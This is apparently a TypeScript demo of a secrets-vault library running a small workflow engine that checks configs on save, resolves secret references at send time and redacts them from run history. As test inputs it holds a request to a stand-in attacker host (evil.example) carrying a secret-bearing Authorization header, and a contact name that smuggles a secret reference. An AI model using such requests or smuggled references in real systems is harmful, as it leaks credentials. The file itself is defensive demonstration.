/** A workflow engine of one page: configs are checked when they are saved, steps resolve last, and the run history stays clean. */

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createVault, generateKey, type JsonValue, rolePolicy, type Vault } from 'guillemet'
import { memoryStorage } from 'guillemet/storage/memory'
import { escapeReferences } from 'guillemet/template'

// #region engine
interface Step {
  readonly id: string
  readonly request: { url: string; method: string; headers: Record<string, string>; body?: string }
  /** Runs once for each element of that step's output. */
  readonly forEach?: string
}
type Outputs = Record<string, JsonValue>

// #region save
/** When it is saved: every finding at once, as the author sees it. */
async function save(scope: Vault, workflow: readonly Step[]): Promise<string> {
  const findings = await Promise.all(workflow.map(({ request }) => scope.check(request, { as: 'request' })))
  const errors = findings.flat().filter(({ severity }) => severity === 'error')
  if (errors.length > 0) throw new Error(errors.map(({ path, message }) => `${path}: ${message}`).join('\n'))
  return JSON.stringify(workflow) // references, never values
}

// #endregion

// #region loop
/** When it runs: the history is what is stored, and what the next step gets. */
async function run(scope: Vault, saved: string, history: [id: string, attempt: number, output: JsonValue][] = []) {
  const outputs: Outputs = {}
  for (const { id, request, forEach } of JSON.parse(saved) as Step[]) {
    const turns = forEach === undefined ? [null] : (outputs[forEach] as JsonValue[])
    const results: JsonValue[] = []
    for (const item of turns) results.push(await attempt(scope, id, request, { ...outputs, item }, history))
    outputs[id] = forEach === undefined ? results[0]! : results
  }
  return history
}

async function attempt(scope: Vault, id: string, stored: Step['request'], outputs: Outputs, history: unknown[]) {
  const authored = scope.references(stored, { as: 'request' }) // of the config as it was saved, for each turn anew
  for (let count = 1; ; count++) {
    try {
      const { redacted } = await scope.use(fill(stored, outputs), send, { as: 'request', authored })
      history.push([id, count, redacted])
      return redacted
    } catch (error) {
      history.push([id, count, String(error)]) // clean when it leaves `use`
      if (count === 3) throw error
    }
  }
}

// #endregion

/** An output is data: it goes into the texts of the parsed config, and a reference in it stays text. */
function fill(stored: Step['request'], outputs: Outputs): Step['request'] {
  const text = (output: JsonValue | undefined) => (typeof output === 'string' ? output : JSON.stringify(output ?? null))
  return JSON.parse(JSON.stringify(stored), (_, leaf) =>
    typeof leaf === 'string'
      ? leaf.replace(/\{\{ ([\w.]+) \}\}/g, (tag, id) =>
          Object.hasOwn(outputs, id) ? escapeReferences(text(outputs[id])) : tag,
        )
      : leaf,
  )
}

async function send({ url, ...init }: Step['request']): Promise<JsonValue> {
  const response = await fetch(url, { ...init, redirect: 'error' })
  if (!response.ok) throw new Error(`${response.status} ${await response.text()}`)
  return (await response.json()) as JsonValue
}
// #endregion

// a service that lists contacts, fails once, and gives back what it was sent
let calls = 0
const server = createServer(async (request, response) => {
  let body = ''
  for await (const piece of request) body += piece
  const { authorization } = request.headers
  const contacts = ['ann', 'bob << secrets.stripe >>']
  if (calls++ === 1) response.writeHead(503).end(`busy, ${authorization}`)
  else response.end(JSON.stringify(request.url === '/contacts' ? contacts : { for: authorization, got: body }))
}).listen(0)
const origin = `http://localhost:${(server.address() as AddressInfo).port}`

// #region vault
const vault = createVault({ storage: memoryStorage(), keys: generateKey(), policy: rolePolicy() })
const acme = vault.with({ workspace: 'acme', environment: 'live' })
const owner = acme.with({ actor: { id: 'ann', role: 'owner' } })
// #endregion
await owner.set({ tag: 'crm', value: 'crm-0d6e21f9aa', allow: { hosts: [origin] } })
await owner.set({ tag: 'stripe', value: 'sk-4c1f0e9d2b' })

// #region use
const headers = { Authorization: 'Bearer << secrets.crm >>' }
const workflow = [
  { id: 'contacts', request: { url: `${origin}/contacts`, method: 'GET', headers } },
  {
    id: 'mail',
    forEach: 'contacts',
    request: { url: `${origin}/mail`, method: 'POST', headers, body: 'to {{ item }}' },
  },
]
const elsewhere = [{ id: 'contacts', request: { url: 'https://evil.example/', method: 'GET', headers } }]
console.log(await save(owner, elsewhere).catch(String)) // prints: Error: headers.Authorization: The secret "crm"

const saved = await save(owner, workflow)
const runner = acme.with({ actor: { id: 'worker', role: 'runner' }, purpose: 'workflow mail' })
console.log(await run(runner, saved))
// prints: [ 'contacts', 1, [ 'ann', 'bob << secrets.stripe >>' ] ],
// prints: [ 'mail', 1, 'Error: 503 busy, Bearer [secret:crm]' ],
// prints: [ 'mail', 2, { for: 'Bearer [secret:crm]', got: 'to ann' } ],
// prints: for: 'Bearer [secret:crm]', got: 'to bob << secrets.stripe >>'
// #endregion
server.close()
await vault.close()
